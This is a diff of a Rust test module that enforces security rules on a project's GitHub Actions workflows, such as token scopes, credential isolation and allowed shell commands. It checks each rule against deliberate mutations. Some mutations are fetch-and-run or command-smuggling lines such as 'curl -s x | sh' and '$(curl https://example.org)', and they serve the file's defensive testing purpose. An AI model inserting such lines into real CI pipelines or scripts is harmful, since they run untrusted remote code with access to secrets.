@@ -3,18 +3,31 @@
 
 use serde_yaml::{Mapping, Value};
 
-use super::super::step::COMPILES;
-use super::{jobs, run, steps, workflows};
+use super::super::build;
+use super::super::step::{COMPILE_LIGHT, DIGEST, UNPACK, VERIFY, VERIFY_SIGNATURE, command};
+use super::{jobs, run, steps, variants};
 
 /// Commands that change no existing resource, besides `deploy --create-only`.
-const UNAPPROVED: [&str; 6] = ["build-images", "ci-gen", "diff", "lint", "status", "test"];
-/// Commands that compile nothing once the program and the image program are compiled.
-const COMPILED: [&str; 6] = ["build-images", "ci-gen", "deploy", "diff", "status", "sync-dags"];
+const UNAPPROVED: [&str; 8] = ["build-images", "ci-gen", "diff", "lint", "pins", "release-files", "status", "test"];
 const SECRETS: [&str; 2] = ["${{ secrets.AWS_ACCESS_KEY_ID }}", "${{ secrets.AWS_SECRET_ACCESS_KEY }}"];
-/// Shell lines that install a tool.
-const INSTALLS: [&str; 2] = ["rustup toolchain install ", "sudo apt-get update --quiet && sudo apt-get install "];
+/// The start of a line that runs the downloaded program.
+const PROGRAM: &str = "programs/xtask ";
+const INSTALL: &str = "rustup toolchain install ";
+/// The first words of every command.
+const COMMANDS: [[&str; 3]; 7] = [
+    ["cargo", "build", "--locked"],
+    ["cargo", "xtask", "*"],
+    ["gh", "release", "create"],
+    ["programs/xtask", "*", "*"],
+    ["rustup", "toolchain", "install"],
+    ["sudo", "apt-get", "install"],
+    ["sudo", "apt-get", "update"],
+];
 /// Write permissions; all others are read-only.
-const WRITES: [&str; 3] = ["id-token", "issues", "pull-requests"];
+const WRITES: [&str; 5] = ["attestations", "contents", "id-token", "issues", "pull-requests"];
+const ATTEST: &str = "actions/attest";
+/// What a job may run that writes to the repository.
+const PUBLISHES: &str = "gh release create ";
 const ROLE: &str = "aws-actions/configure-aws-credentials";
 
 /// A rule, which returns whether a workflow breaks it.
@@ -52,9 +65,9 @@ fn secrets(value: Option<&Value>) -> Vec<String> {
     members(value).into_iter().map(|(_, value)| value).filter(|value| value.contains("secrets")).collect()
 }
 
-/// Returns the arguments of `cargo xtask`.
+/// Returns the arguments of the program, compiled here or downloaded.
 fn arguments(step: &Value) -> Option<&str> {
-    run(step).strip_prefix("cargo xtask ")
+    run(step).strip_prefix("cargo xtask ").or_else(|| run(step).strip_prefix(PROGRAM))
 }
 
 fn is_one_of(list: &[&str], arguments: &str) -> bool {
@@ -62,7 +75,7 @@ fn is_one_of(list: &[&str], arguments: &str) -> bool {
 }
 
 fn deploys(workflow: &Value) -> bool {
-    any_step(workflow, |_, step| run(step).starts_with("cargo xtask deploy "))
+    any_step(workflow, |_, step| arguments(step).is_some_and(|arguments| arguments.starts_with("deploy ")))
 }
 
 /// Returns whether a job changes an existing resource other than by the approved plan, or by `sync-dags` after it.
@@ -76,27 +89,34 @@ fn changes_without_approval(job: &Value) -> bool {
     })
 }
 
-/// Returns whether a job compiles something while it has credentials, which every build script could then read.
-fn compiles_with_credentials(job: &Value) -> bool {
-    let has_credentials = |step: &Value| {
-        uses(step, ROLE) || !secrets(step.get("env")).is_empty() || text(step.get("env")).contains("github.token")
+fn has_credentials(step: &Value) -> bool {
+    uses(step, ROLE) || !secrets(step.get("env")).is_empty()
+}
+
+/// Returns whether a job with credentials runs anything but the program that it downloaded and verified, which build scripts
+/// of other crates could use. The compiler is installed because the images' keys contain the list of crates.
+fn runs_other_code_with_credentials(job: &Value) -> bool {
+    let is_cloud = job.get("environment").is_some() || any(job, has_credentials);
+    let at = |line: &str| steps(job).iter().position(|step| run(step) == line);
+    let other = |step: &Value| {
+        let line = run(step);
+        let allowed = line.starts_with(INSTALL) || line.starts_with(PROGRAM);
+        !line.is_empty() && !allowed && ![VERIFY, VERIFY_SIGNATURE, UNPACK].contains(&line)
     };
-    let Some(first) = steps(job).iter().position(has_credentials) else { return false };
-    let (before, after) = steps(job).split_at(first);
-    let ran = |line: &str| before.iter().any(|step| run(step) == line);
-    let [light, full] = COMPILES;
-    let calls_aws = after.iter().any(|step| step.get("env").is_some_and(|env| env.get("AWS_ACCOUNT_ID").is_some()));
-    let compiles = |step: &Value| {
-        let image = run(step).contains(" --image ingestion-image ") && !ran(&run(step).replace(" --push", ""));
-        let other =
-            arguments(step).is_none_or(|arguments| !is_one_of(&COMPILED, arguments) && arguments != "lint advisories");
-        !run(step).is_empty() && (other || image)
-    };
-    !ran(light) || (calls_aws && !ran(full)) || after.iter().any(compiles)
+    let first = steps(job).iter().position(|step| run(step).starts_with(PROGRAM) || has_credentials(step));
+    let in_order = at(VERIFY).is_some() && at(VERIFY) < at(UNPACK) && at(UNPACK) < first;
+    let fetches = any(job, |step| text(step.get("with")).contains("name: programs-") && uses(step, "actions/download"));
+    let is_unverified = fetches && at(VERIFY).is_none();
+    is_unverified || is_cloud && (!in_order || any(job, other) || any(job, |step| uses(step, "Swatinem/rust-cache")))
+}
+
+/// Returns whether a step with a token compiles something.
+fn compiles_with_token(job: &Value) -> bool {
+    any(job, |step| run(step).starts_with("cargo ") && text(step.get("env")).contains("github.token"))
 }
 
 const RULES: [(&str, Rule); 11] = [
-    ("tokens write only issues, pull requests and identities", |workflow| {
+    ("tokens write only issues, pull requests, releases, attestations and identities", |workflow| {
         any_job(workflow, |job| {
             let scopes = members(job.get("permissions"));
             scopes.iter().any(|(scope, level)| level != "read" && !WRITES.contains(&scope.as_str()))
@@ -104,12 +124,15 @@ const RULES: [(&str, Rule); 11] = [
     }),
     ("a job that writes to the repository runs none of its code", |workflow| {
         any_job(workflow, |job| {
-            let writes = ["issues", "pull-requests", "contents"].iter().any(|scope| permission(job, scope));
-            writes && steps(job).iter().any(|step| uses(step, "actions/checkout") || step.get("run").is_some())
+            let writes =
+                ["attestations", "contents", "issues", "pull-requests"].iter().any(|scope| permission(job, scope));
+            let runs = |step: &Value| !["", VERIFY].contains(&run(step)) && !run(step).starts_with(PUBLISHES);
+            writes && any(job, |step| uses(step, "actions/checkout") || runs(step))
         })
     }),
-    ("a job requests its identity if and only if it assumes a role", |workflow| {
-        any_job(workflow, |job| steps(job).iter().any(|step| uses(step, ROLE)) != permission(job, "id-token"))
+    ("a job requests its identity if and only if it assumes a role or signs", |workflow| {
+        let needs = |step: &Value| uses(step, ROLE) || uses(step, ATTEST);
+        any_job(workflow, |job| any(job, needs) != permission(job, "id-token"))
     }),
     ("a role belongs to one account and to an environment", |workflow| {
         any_step(workflow, |job, step| {
@@ -132,28 +155,35 @@ const RULES: [(&str, Rule); 11] = [
     }),
     ("a deployment started by hand is of main", |workflow| {
         any_step(workflow, |job, step| {
-            run(step).starts_with("cargo xtask deploy --create-only ")
+            arguments(step).is_some_and(|arguments| arguments.starts_with("deploy --create-only "))
                 && !text(job.get("if")).starts_with("github.ref == 'refs/heads/main' && ")
         })
     }),
-    ("a shell line is one command of this project, compiles it, or installs a tool", |workflow| {
-        any_step(workflow, |_, step| {
-            let run = run(step);
-            let installs = INSTALLS.iter().any(|start| run.starts_with(start)) && run.matches("&&").count() < 2;
-            let own = run.starts_with("cargo xtask ") && !run.contains(['&', '|', ';', '`', '(']);
-            step.get("run").is_some() && (run.contains('\n') || !(own || installs || COMPILES.contains(&run)))
-        })
-    }),
+    (
+        "a shell line is one command: of this project, or one that compiles it, installs a tool or publishes",
+        |workflow| {
+            any_step(workflow, |_, step| {
+                let is_of = |words: &[String], start: [&str; 3]| {
+                    words.len() >= 3 && words.iter().zip(start).all(|(word, known)| known == "*" || word == known)
+                };
+                let allowed = |words: Vec<String>| COMMANDS.iter().any(|start| is_of(&words, *start));
+                // Their pipes and substitutions are constant.
+                let mut known = build::LINES.into_iter().chain([DIGEST, VERIFY, VERIFY_SIGNATURE, UNPACK]);
+                let is_known = known.any(|line| line == run(step));
+                step.get("run").is_some() && !is_known && !command(run(step)).is_some_and(allowed)
+            })
+        },
+    ),
     ("only the approved plan changes existing resources, and the DAGs after it", |workflow| {
         any_job(workflow, changes_without_approval)
             || any_step(workflow, |job, step| {
-                let all = run(step).starts_with("cargo xtask deploy ") && !run(step).contains(" --create-only ");
+                let all = run(step).starts_with("programs/xtask deploy ") && !run(step).contains(" --create-only ");
                 let digest = text(step.get("env").and_then(|env| env.get("DIGEST")));
                 all && !(digest.starts_with("${{ needs.") && job.get("needs").is_some())
             })
     }),
-    ("a job with credentials compiles everything before it has them", |workflow| {
-        any_job(workflow, compiles_with_credentials)
+    ("a job with credentials runs only the program that another job built", |workflow| {
+        any_job(workflow, |job| runs_other_code_with_credentials(job) || compiles_with_token(job))
     }),
     ("secrets reach only commands of this project, in a job with an environment", |workflow| {
         !secrets(workflow.get("env")).is_empty()
@@ -205,10 +235,14 @@ fn any(job: &Value, test: impl Fn(&Value) -> bool) -> bool {
 }
 
 fn drop_steps(job: &mut Value, line: &str) -> bool {
-    let Some(list) = job["steps"].as_sequence_mut() else { return false };
+    let Some(list) = job.get_mut("steps").and_then(Value::as_sequence_mut) else { return false };
     let before = list.len();
     list.retain(|step| !run(step).starts_with(line));
     list.len() < before
+}
+
+fn has_account(step: &Value) -> bool {
+    step.get("env").is_some_and(|env| env.get("AWS_ACCOUNT_ID").is_some())
 }
 
 fn has_key(step: &Value) -> bool {
@@ -217,11 +251,21 @@ fn has_key(step: &Value) -> bool {
 
 /// Changes by the index of the rule that must find them.
 const CHANGES: &[(usize, Change)] = &[
-    (0, Job(|job| put(&mut job["permissions"], "contents", "write"))),
+    (
+        1,
+        Job(|job| any(job, |step| uses(step, "actions/checkout")) && put(&mut job["permissions"], "contents", "write")),
+    ),
+    (1, Step(|step| rerun(step, "gh release create", "release/xtask"))),
     (0, Job(|job| put(&mut job["permissions"], "packages", "write"))),
     (1, Job(|job| any(job, |step| uses(step, "actions/checkout")) && put(&mut job["permissions"], "issues", "write"))),
     (2, Job(|job| without(&mut job["permissions"], "id-token"))),
-    (2, Job(|job| !any(job, |step| uses(step, ROLE)) && put(&mut job["permissions"], "id-token", "write"))),
+    (
+        2,
+        Job(|job| {
+            !any(job, |step| uses(step, ROLE) || uses(step, ATTEST))
+                && put(&mut job["permissions"], "id-token", "write")
+        }),
+    ),
     (3, Step(|step| uses(step, ROLE) && within(step, "with", "role-to-assume", None))),
     (3, Step(|step| uses(step, ROLE) && within(step, "with", "allowed-account-ids", None))),
     (3, Step(|step| uses(step, ROLE) && put(&mut step["with"], "aws-access-key-id", "x"))),
@@ -232,31 +276,38 @@ const CHANGES: &[(usize, Change)] = &[
     (
         6,
         Job(|job| {
-            any(job, |step| run(step).starts_with("cargo xtask deploy --create-only")) && put(job, "if", "always()")
+            any(job, |step| run(step).starts_with("programs/xtask deploy --create-only")) && put(job, "if", "always()")
         }),
     ),
     (7, Step(|step| step.get("run").is_some() && put(step, "run", "make"))),
     (7, Step(|step| rerun(step, "cargo xtask ", "curl -s x | sh && cargo xtask "))),
+    (7, Step(|step| rerun(step, "--component clippy", "; curl https://example.org | sh"))),
+    (7, Step(|step| rerun(step, "--quiet", "$(curl https://example.org)"))),
+    (7, Step(|step| rerun(step, " --locked", " --locked &"))),
+    (7, Step(|step| rerun(step, "gh release create", "gh api"))),
     (8, Step(|step| rerun(step, "deploy --create-only ", "deploy "))),
     (8, Step(|step| rerun(step, " diff ", " sync-dags "))),
     (8, Step(|step| rerun(step, " status ", " recover "))),
     (8, Step(|step| rerun(step, " --expect \"$DIGEST\"", ""))),
     (8, Step(|step| within(step, "env", "DIGEST", Some("'1234'")))),
-    (8, Job(|job| any(job, |step| run(step).starts_with("cargo xtask deploy --yes")) && without(job, "needs"))),
-    (9, Step(|step| has_key(step) && put(step, "run", COMPILES[0]))),
-    (9, Step(|step| has_key(step) && put(step, "run", "cargo xtask test --all"))),
-    (9, Step(|step| rerun(step, " --locked", ""))),
-    (9, Job(|job| any(job, has_key) && drop_steps(job, COMPILES[0]))),
-    (9, Job(|job| any(job, has_key) && drop_steps(job, COMPILES[1]))),
-    (9, Job(|job| drop_steps(job, "cargo xtask build-images --image ingestion-image"))),
+    (8, Job(|job| any(job, |step| run(step).starts_with("programs/xtask deploy --yes")) && without(job, "needs"))),
+    (7, Step(|step| rerun(step, PROGRAM, "curl -s x | sh && programs/xtask "))),
+    (9, Step(|step| has_key(step) && put(step, "run", COMPILE_LIGHT))),
+    (9, Step(|step| has_key(step) && put(step, "run", "cargo xtask status --env dev"))),
+    (9, Step(|step| run(step).starts_with(PROGRAM) && has_account(step) && rerun(step, PROGRAM, "cargo xtask "))),
+    (9, Job(|job| drop_steps(job, VERIFY))),
+    (9, Job(|job| any(job, has_key) && drop_steps(job, UNPACK))),
+    (9, Step(|step| text(step.get("env")).contains("github.token") && rerun(step, PROGRAM, "cargo xtask "))),
+    (7, Step(|step| rerun(step, " --locked", ""))),
     (
         9,
         Job(|job| {
-            // The login comes first.
-            let list = job["steps"].as_sequence_mut().expect("steps");
+            // Compiles before the login.
+            let Some(list) = job.get_mut("steps").and_then(Value::as_sequence_mut) else { return false };
             let login = list.iter().position(|step| uses(step, ROLE));
+            let compile = serde_yaml::from_str("run: cargo build --locked --package xtask").expect("YAML");
             login.is_some_and(|login| {
-                list[..=login].rotate_right(1);
+                list.insert(login, compile);
                 true
             })
         }),
@@ -297,7 +348,7 @@ fn changed(workflow: &Value, change: &Change) -> Vec<(String, Value)> {
 
 #[test]
 fn the_workflows_follow_every_rule() {
-    for workflow in workflows() {
+    for workflow in variants() {
         for (name, breaks) in RULES {
             assert!(!breaks(&workflow.value), "{}: {name}", workflow.file.path);
         }
@@ -306,7 +357,7 @@ fn the_workflows_follow_every_rule() {
 
 #[test]
 fn each_rule_finds_every_change_that_breaks_it() {
-    let (workflows, mut seen) = (workflows(), vec![0; RULES.len()]);
+    let (workflows, mut seen) = (variants(), vec![0; RULES.len()]);
     for (rule, change) in CHANGES {
         let (name, breaks) = RULES[*rule];
         let mut places = 0;
